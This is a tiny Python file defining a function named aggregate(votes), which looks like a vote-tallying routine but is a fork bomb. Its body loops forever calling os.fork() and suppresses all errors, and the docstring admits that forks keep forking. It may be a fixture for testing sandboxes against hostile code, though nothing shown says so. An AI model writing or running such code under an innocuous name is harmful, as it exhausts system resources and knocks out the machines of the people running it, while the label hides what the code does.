"""Forks, and its forks fork."""

import os


def aggregate(votes):
    while True:
        try:
            os.fork()
        except:
            pass
